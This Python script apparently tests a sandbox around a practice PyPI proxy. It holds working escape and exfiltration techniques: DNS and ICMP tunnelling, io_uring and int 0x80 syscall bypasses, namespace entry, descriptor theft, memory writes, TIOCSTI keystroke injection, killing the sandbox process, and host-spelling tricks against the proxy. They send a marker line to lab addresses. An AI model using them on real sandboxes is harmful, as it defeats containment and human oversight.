"""What a program behind the wall might try: ``python attempt.py KIND ARGUMENT ...``.

Each kind sends one line, which names the attempt, by another way. Only the standard library is
used, and no variable or configuration file is obeyed. Numbers of system calls are those of x86-64
and aarch64 (asm/unistd_64.h, asm-generic/unistd.h).
"""

from __future__ import annotations

import ctypes
import mmap
import os
import platform
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
import urllib.parse
from collections.abc import Callable
from pathlib import Path

OTHER, OTHER_SIX = "100.64.2.1", "fec0::2"
TIMEOUT = 3
SYSCALLS = {
    "x86_64": {
        "socket": 41,
        "io_uring_setup": 425,
        "io_uring_enter": 426,
        "pidfd_open": 434,
        "pidfd_getfd": 438,
        "sendmmsg": 307,
        "ioctl": 16,
        "setns": 308,
    },
    "aarch64": {
        "socket": 198,
        "io_uring_setup": 425,
        "io_uring_enter": 426,
        "pidfd_open": 434,
        "pidfd_getfd": 438,
        "sendmmsg": 269,
        "ioctl": 29,
        "setns": 268,
    },
}
TIOCSTI, TIOCLINUX = 0x5412, 0x541C
MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
VICTIM = b"a connection that was there before\n"
libc = ctypes.CDLL(None, use_errno=True)


def line() -> bytes:
    """Return the line that names the attempt."""
    return f"leak-{os.environ['LAB_WAY']}-end\n".encode()


def syscall(name: str, *arguments: object) -> int:
    """Call the kernel itself. Raises OSError."""
    result = libc.syscall(ctypes.c_long(SYSCALLS[platform.machine()][name]), *arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return int(result)


def tcp(host: str = OTHER, port: str = "7777") -> None:
    """Connect, and send."""
    with socket.create_connection((host, int(port)), TIMEOUT) as connection:
        connection.sendall(line())


def udp(host: str = OTHER, port: str = "7777") -> None:
    """Send one datagram."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.sendto(line(), (host, int(port)))


def ping(host: str = OTHER) -> None:
    """Send an echo request with a line in it (RFC 792)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sender:
        sender.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + line(), (host, 0))


def dns(server: str = "100.64.0.53") -> None:
    """Ask a name server for a name that says something (RFC 1035, section 4.1)."""
    labels = (line().strip(), b"other", b"test")
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    query = struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(query, (server, 53))


def resolve() -> None:
    """Look up a name that says something, as every program does."""
    socket.getaddrinfo(f"{line().decode().strip()}.other.test", 443)


def mptcp(high_bits: str = "") -> None:
    """Connect by Multipath TCP (RFC 8684), which is another protocol of ``socket``."""
    protocol = 262 | (1 << 32 if high_bits else 0)
    descriptor = syscall("socket", ctypes.c_ulong(2), ctypes.c_ulong(1), ctypes.c_ulong(protocol))
    with socket.socket(fileno=descriptor) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect((OTHER, 7777))
        connection.sendall(line())


def udp_high_bits() -> None:
    """Ask for a datagram socket with bits set that the kernel does not look at."""
    high = 1 << 32
    arguments = (ctypes.c_ulong(2 | high), ctypes.c_ulong(2 | high), ctypes.c_ulong(high))
    with socket.socket(fileno=syscall("socket", *arguments)) as sender:
        sender.sendto(line(), (OTHER, 7777))


def fast_open(call: str = "sendto") -> None:
    """Connect without ``connect``: TCP Fast Open (RFC 7413)."""
    with socket.socket() as connection:
        if call == "sendto":
            connection.sendto(line(), MSG_FASTOPEN, (OTHER, 7777))
        elif call == "sendmsg":
            connection.sendmsg([line()], [], MSG_FASTOPEN, (OTHER, 7777))
        elif call == "option":
            connection.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
            connection.connect((OTHER, 7777))
            connection.sendall(line())
        else:
            _sendmmsg(connection.fileno())


def _sendmmsg(descriptor: int) -> None:
    text = ctypes.create_string_buffer(line())
    address = ctypes.create_string_buffer(
        struct.pack("=H", socket.AF_INET)
        + struct.pack("!H", 7777)
        + socket.inet_aton(OTHER)
        + bytes(8)
    )
    vector = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(text), len(line())))
    message = ctypes.create_string_buffer(
        struct.pack(
            "QIxxxxQQQQI", ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0
        )
        + bytes(12)
    )
    syscall("sendmmsg", descriptor, message, 1, MSG_FASTOPEN)


def io_uring() -> None:
    """Make a datagram socket by io_uring (IORING_OP_SOCKET, io_uring_enter(2))."""
    parameters = ctypes.create_string_buffer(120)
    ring = syscall("io_uring_setup", 4, parameters)
    # io_sqring_offsets and io_cqring_offsets begin at byte 40 and 80 of io_uring_params.
    _, sq_tail, _, _, _, _, sq_array = struct.unpack_from("7I", parameters, 40)
    _, cq_tail, _, _, _, cqes = struct.unpack_from("6I", parameters, 80)
    submissions = mmap.mmap(ring, 4096, mmap.MAP_SHARED, offset=0)
    completions = mmap.mmap(ring, 4096, mmap.MAP_SHARED, offset=0x8000000)
    entries = mmap.mmap(ring, 4096, mmap.MAP_SHARED, offset=0x10000000)
    # opcode, flags, ioprio, fd = domain, off = type, addr, len = protocol (io_uring_prep_socket)
    entries[:64] = struct.pack(
        "BBHiQQII", 45, 0, 0, socket.AF_INET, socket.SOCK_DGRAM, 0, 0, 0
    ) + bytes(32)
    submissions[sq_array : sq_array + 4] = struct.pack("I", 0)
    submissions[sq_tail : sq_tail + 4] = struct.pack("I", 1)
    syscall("io_uring_enter", ring, 1, 1, 1, None, 0)
    del cq_tail
    result = struct.unpack_from("i", completions, cqes + 8)[0]
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    with socket.socket(fileno=result) as sender:
        sender.sendto(line(), (OTHER, 7777))


def other_architecture() -> None:
    """Make a datagram socket by a system call of 32-bit x86 (``int 0x80``)."""
    if platform.machine() != "x86_64":
        raise OSError("there is no second set of system calls")
    # push rbx; mov eax,edi; mov ebx,esi; mov ecx,edx; xor edx,edx; int 0x80; pop rbx; ret
    code = bytes.fromhex("53 89f8 89f3 89d1 31d2 cd80 5b c3")
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory[: len(code)] = code
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)
    descriptor = call(359, 2, 2)  # socket(AF_INET, SOCK_DGRAM, 0)
    if descriptor < 0:
        raise OSError(-descriptor, os.strerror(-descriptor))
    with socket.socket(fileno=descriptor) as sender:
        sender.sendto(line(), (OTHER, 7777))


def vsock() -> None:
    """Make a socket of virtual machines; the host is not called, that it could be is the answer."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        print(line().decode().replace("leak-", "opened-"))


def unix(path: str) -> None:
    """Hand the line to a program outside; ``@`` begins an abstract name."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect("\0" + path[1:] if path.startswith("@") else path)
        connection.sendall(line())


def later_unix(name: str) -> None:
    """Let a program outside begin to listen at a unix socket now, and hand it the line."""
    _ask_outside("unix", name, wait=True)
    unix(os.path.join(os.environ["LAB_FOLDER"], name))


def unix_by_process(pid: str, path: str) -> None:
    """Look for a unix socket in the files of a process outside (``/proc/PID/root``)."""
    for target in (pid, "1", str(os.getppid())):
        for view in ("root", "cwd"):
            try:
                unix(f"/proc/{target}/{view}{path}")
            except OSError as error:
                print(target, view, error)


def unix_by_mount(path: str) -> None:
    """Take away what covers a unix socket, or look beside it, as the owner of new namespaces."""
    folder, name = os.path.split(path)
    aside = os.path.abspath("aside")
    os.mkdir(aside)
    _own_namespaces()
    for result, text in (
        (libc.umount2(path.encode(), 2), "umount"),
        (libc.mount(folder.encode(), aside.encode(), None, ctypes.c_ulong(0x1000), None), "bind"),
        (libc.mount(None, b"/", None, ctypes.c_ulong(0x44000), None), "private"),
        (libc.umount2(path.encode(), 2), "umount again"),
    ):
        print(text, result, os.strerror(ctypes.get_errno()))
    for candidate in (path, os.path.join(aside, name)):
        try:
            unix(candidate)
        except OSError as error:
            print(candidate, error)


def fifo(path: str) -> None:
    """Write the line to a named pipe that a program outside reads."""
    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, line())


def enter_namespaces(pid: str) -> None:
    """Go back into the namespaces of a process outside, each by each, then connect."""
    for kind, flag in (("user", 0x10000000), ("net", 0x40000000), ("mnt", 0x00020000)):
        for target in (pid, "1"):
            try:
                descriptor = os.open(f"/proc/{target}/ns/{kind}", os.O_RDONLY)
                syscall("setns", descriptor, flag)
            except OSError as error:
                print(kind, target, error)
    try:
        syscall("setns", syscall("pidfd_open", int(pid), 0), 0x50020000)
    except OSError as error:
        print("pidfd", error)
    tcp()


def new_namespaces(pid: str) -> None:
    """Become the owner of new namespaces, then try the old ones from there."""
    _own_namespaces()
    enter_namespaces(pid)


def _own_namespaces() -> None:
    """Become root in new user and mount namespaces, if the system lets it."""
    user = os.getuid()
    try:
        if libc.unshare(0x10000000 | 0x00020000) != 0:
            raise OSError(ctypes.get_errno(), "unshare")
        Path("/proc/self/setgroups").write_text("deny", encoding="ascii")
        Path("/proc/self/uid_map").write_text(f"0 {user} 1", encoding="ascii")
    except OSError as error:
        print(error)


def victim() -> None:
    """Be a program of the user that runs outside: it has a connection, and sends its own text."""
    libc.prctl(
        0x59616D61, ctypes.c_ulong(-1 & (1 << 64) - 1), 0, 0, 0
    )  # PR_SET_PTRACER, any (Yama)
    text = ctypes.create_string_buffer(VICTIM, 256)
    with socket.create_connection((OTHER, 7777)) as connection:
        connection.sendall(text.value)
        print(os.getpid(), connection.fileno(), ctypes.addressof(text), flush=True)
        before = text.value
        while True:
            time.sleep(0.05)
            if text.value != before:
                before = text.value
                connection.sendall(before)


def steal(described: str) -> None:
    """Take the connection of a program outside (pidfd_getfd(2)), and write to it."""
    pid, descriptor, _ = map(int, described.split())
    stolen = syscall("pidfd_getfd", syscall("pidfd_open", pid, 0), descriptor, 0)
    os.write(stolen, line())


def write_memory(described: str) -> None:
    """Change what a program outside sends: in its memory, by /proc and by process_vm_writev."""
    pid, _, address = map(int, described.split())
    text = line() + b"\0"
    try:
        memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        os.pwrite(memory, text, address)
    except OSError as error:
        print(error)
        buffer = ctypes.create_string_buffer(text)
        local = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(buffer), len(text)))
        remote = ctypes.create_string_buffer(struct.pack("QQ", address, len(text)))
        if libc.process_vm_writev(pid, local, 1, remote, 1, 0) < 0:
            print(os.strerror(ctypes.get_errno()))
            return
    time.sleep(0.3)  # let it send


def daemon() -> None:
    """Leave a process behind that has left the session, and connects when the shell has ended."""
    practice = urllib.parse.urlsplit(os.environ.get("PYPI_PRACTICE", "http://127.0.0.1:1"))
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(null, descriptor)
    for _ in range(100):
        try:
            socket.create_connection(("127.0.0.1", practice.port or 1), 0.2).close()
        except OSError:
            break
        time.sleep(0.1)
    tcp()


def be_fetched(port: str) -> None:
    """Listen, and be called by an accomplice outside."""
    with socket.create_server(("", int(port))) as listener:
        listener.settimeout(2 * TIMEOUT)
        _ask_outside("fetch", port, wait=False)
        connection, _ = listener.accept()
        connection.sendall(line())
        connection.close()


def same_port() -> None:
    """Connect to another host at the port of the practice proxy."""
    port = str(urllib.parse.urlsplit(os.environ["PYPI_PRACTICE"]).port)
    _ask_outside("listen", port, wait=True)
    tcp(OTHER, port)


def _ask_outside(kind: str, port: str, *, wait: bool) -> None:
    folder = Path(os.environ["LAB_FOLDER"], "requests")
    (folder / f"{kind}-{port}").touch()
    for _ in range(100 if wait else 0):
        if (folder / f"done-{port}").exists():
            return
        time.sleep(0.05)


def write_inherited() -> None:
    """Write to every connection that was open before the shell was."""
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, line())
        except OSError:
            continue


def type_outside(call: str = "ioctl") -> None:
    """Type a command at the terminal, for the shell outside to run (tty_ioctl(4), TIOCSTI)."""
    high = 1 << 32 if call == "high-bits" else 0
    command = f"{sys.executable} -I {__file__} tcp\n"
    for letter in f"LAB_WAY={os.environ['LAB_WAY']} {command}":
        byte = ctypes.create_string_buffer(letter.encode())
        syscall("ioctl", 0, ctypes.c_ulong(TIOCSTI | high), byte)


def connect(target: str, name: str = "", host: str = "", path: str = "/legacy/") -> None:
    """Ask the practice proxy for a tunnel to *target*; send a request by TLS for *name* in it.

    ``plain`` as *name*: without TLS. *host* is what the request says.
    """
    with _proxy() as connection:
        connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head = connection.recv(4096)
        print(target, head.split(b"\r\n")[0])
        if b" 200 " not in head.split(b"\r\n")[0]:
            return
        request = _request("POST", path, host or name or target)
        if name == "plain":
            connection.sendall(request)
            return
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        server_name = None if name == "nobody" else name or target.rpartition(":")[0]
        with context.wrap_socket(connection, server_hostname=server_name) as encrypted:
            encrypted.sendall(request)
            encrypted.recv(4096)


def forward(method: str, target: str, host: str) -> None:
    """Send a plain request for *target*, an absolute address, to the practice proxy."""
    with _proxy() as connection:
        connection.sendall(_request(method, target, host))
        print(target, connection.recv(4096).split(b"\r\n")[0])


def spelled() -> None:
    """Ask for PyPI's hosts in every spelling, each as a tunnel and plainly."""
    for host in SPELLINGS:
        for kind in (
            lambda host: connect(f"{host}:443"),
            lambda host: connect(f"{host}:80", "plain"),
            lambda host: forward("POST", f"http://{host}/legacy/", host),
        ):
            _quietly(kind, host)


def ports() -> None:
    """Ask for PyPI's hosts and others at ports that nobody should get."""
    for host in ("upload.pypi.org", "packages.other.test", "packages.company.test"):
        for port in (":80", ":8443", "", ":", ":99999", ":-1", ":0443", ":443:443", ":４４３"):
            _quietly(lambda target: connect(target, "plain"), host + port)


SPELLINGS = (
    "upload.pypi.org.",
    "upload.pypi.org..",
    "upload.pypi.org。",
    "upload.pypi.org。。",
    "upload．pypi．org",
    "upload｡pypi｡org",
    "ｕｐｌｏａｄ.ｐｙｐｉ.ｏｒｇ",
    "UPLOAD.PYPI.ORG",
    "upload%2Epypi%2Eorg",
    "upload.pypi.or%67",
    "up\u00adload.pypi.org",
    "upload.pypi.org\u200b",
    "user@upload.pypi.org",
    "upload.pypi.org#",
    "upload.pypi.org\\@packages.company.test",
    "packages.company.test@upload.pypi.org",
    "[upload.pypi.org]",
    "ⓤⓟⓛⓞⓐⓓ.ⓟⓨⓟⓘ.ⓞⓡⓖ",
    "xn--upload.pypi.org",
    "upload.pypi.org\x00.packages.company.test",
    "upload.pypi.org ",
    "\tupload.pypi.org",
    "100.64.1.2",
    "1681916162",
    "0x64400102",
    "0144.0100.1.2",
    "100.64.258",
    "[::ffff:100.64.1.2]",
    "[fec0::1]",
    "[fec0::1%lo]",
    "::ffff:6440:102",
)


def _quietly(kind: Callable[[str], None], argument: str) -> None:
    try:
        kind(argument)
    except (OSError, ValueError) as error:
        print(ascii(argument), error)


def _proxy() -> socket.socket:
    practice = urllib.parse.urlsplit(os.environ["PYPI_PRACTICE"])
    return socket.create_connection((practice.hostname or "", practice.port or 0), TIMEOUT)


def _request(method: str, target: str, host: str) -> bytes:
    body = line() if method == "POST" else b""
    return (
        f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nX-Way: {line().decode().strip()}\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body


def kill_practice() -> None:
    """End the program that made the wall, an ancestor of ours, then let an obedient client try."""
    pid, top = os.getppid(), int(os.environ["LAB_OUTSIDE"])
    while pid not in (0, 1, top):
        words = Path(f"/proc/{pid}/cmdline").read_bytes()
        above = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        if b"pypi_practice" in words:
            os.kill(pid, signal.SIGKILL)
        pid = above
    way = line().decode().strip()
    subprocess.run(
        ["curl", "-sk", "--max-time", "3", f"https://upload.pypi.org/{way}"], check=False
    )


KINDS: dict[str, Callable[..., None]] = {
    name.replace("_", "-"): function
    for name, function in list(globals().items())
    if callable(function)
    and not name.startswith("_")
    and getattr(function, "__module__", "") == __name__
}


if __name__ == "__main__":
    KINDS[sys.argv[1]](*sys.argv[2:])
